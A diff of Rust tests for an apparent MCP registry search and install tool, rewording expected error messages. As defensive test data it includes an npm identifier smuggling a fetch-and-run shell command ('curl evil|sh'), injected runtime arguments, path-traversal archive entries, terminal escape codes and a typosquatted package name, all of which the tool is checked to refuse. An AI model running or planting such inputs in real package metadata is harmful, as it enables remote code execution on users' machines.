@@ -86,14 +86,14 @@ fn written(sandbox: &Sandbox, file: &str) -> Value {
 }
 
 #[test]
-fn a_search_shows_what_there_is_and_nothing_that_breaks_a_line() {
+fn a_search_shows_the_results_and_nothing_that_breaks_a_line() {
     let (sandbox, api) = (Sandbox::with_workspace(), Api::start());
     let found = api.run(&sandbox, &["search", "weather"]);
     assert_eq!(found.code, 0, "{}", found.err);
     insta::assert_snapshot!(found.out, @"
     NAME                         VERSION  AS              DESCRIPTION
     io.github.example/weather    1.4.0    npm, oci, http  Forecasts for a city
-    io.github.exarnple/weather   9.9.9    pypi            (looks like `io.github.example/weather`, but is another server) Forecasts, too
+    io.github.exarnple/weather   9.9.9    pypi            (looks like `io.github.example/weather`, but is a different server) Forecasts, too
     org.example/old-weather      0.1.0    pypi            (deprecated) No longer maintained
     evil.example/weather-escape  1.0.0    npm             red ⟨U+001B⟩[31mtext⟨U+001B⟩[0m and a line break
     ");
@@ -201,7 +201,7 @@ fn without_the_registry_the_last_answer_is_used_and_its_age_is_shown() {
     std::fs::write(sandbox.path(&format!("state/registry/{digest}.json")), answer.to_string()).unwrap();
     let stale = failing.run(&sandbox, &["search", "weather"]);
     assert_eq!(stale.code, 0, "{}", stale.err);
-    let note = "note: the registry cannot be reached; this is its answer from 2026-01-01T00:00:00.000Z (";
+    let note = "note: the registry cannot be reached; this is its last response, from 2026-01-01T00:00:00.000Z (";
     assert!(stale.err.starts_with(note) && stale.err.contains(" days ago)"), "{}", stale.err);
     assert!(stale.out.contains("io.github.example/weather"));
 }
@@ -228,9 +228,9 @@ fn a_hostile_registry_gets_nothing_written() {
         (npm(json!({ "identifier": "--call=sh -c 'curl evil|sh'" })), "is not the name of a package"),
         (npm(json!({ "identifier": "a\nb" })), "is not the name of a package"),
         (npm(json!({ "identifier": "../../evil" })), "is not the name of a package"),
-        (npm(json!({ "version": "latest" })), "is not one version"),
-        (npm(json!({ "version": "^1.0.0" })), "is not one version"),
-        (npm(json!({ "version": null })), "names no version"),
+        (npm(json!({ "version": "latest" })), "is not a single version"),
+        (npm(json!({ "version": "^1.0.0" })), "is not a single version"),
+        (npm(json!({ "version": null })), "has no version"),
         (
             npm(json!({ "runtimeArguments": [{ "type": "positional", "value": "--call=evil" }] })),
             "changes how `npx` runs",
@@ -360,9 +360,9 @@ fn a_hostile_bundle_leaves_nothing_behind() {
         assert_eq!(left, 0, "{name}");
     };
     bundle(&sandbox, "up.mcpb", &[("manifest.json", &good), ("../../escaped", b"x")]);
-    refused("up.mcpb", "leads out of its folder");
+    refused("up.mcpb", "is outside of its folder");
     bundle(&sandbox, "root.mcpb", &[("manifest.json", &good), ("/tmp/escaped", b"x")]);
-    refused("root.mcpb", "leads out of its folder");
+    refused("root.mcpb", "is outside of its folder");
     assert!(!sandbox.path("escaped").exists() && !sandbox.path("state/escaped").exists());
 
     let mut zip = zip::ZipWriter::new(std::fs::File::create(sandbox.path("link.mcpb")).unwrap());
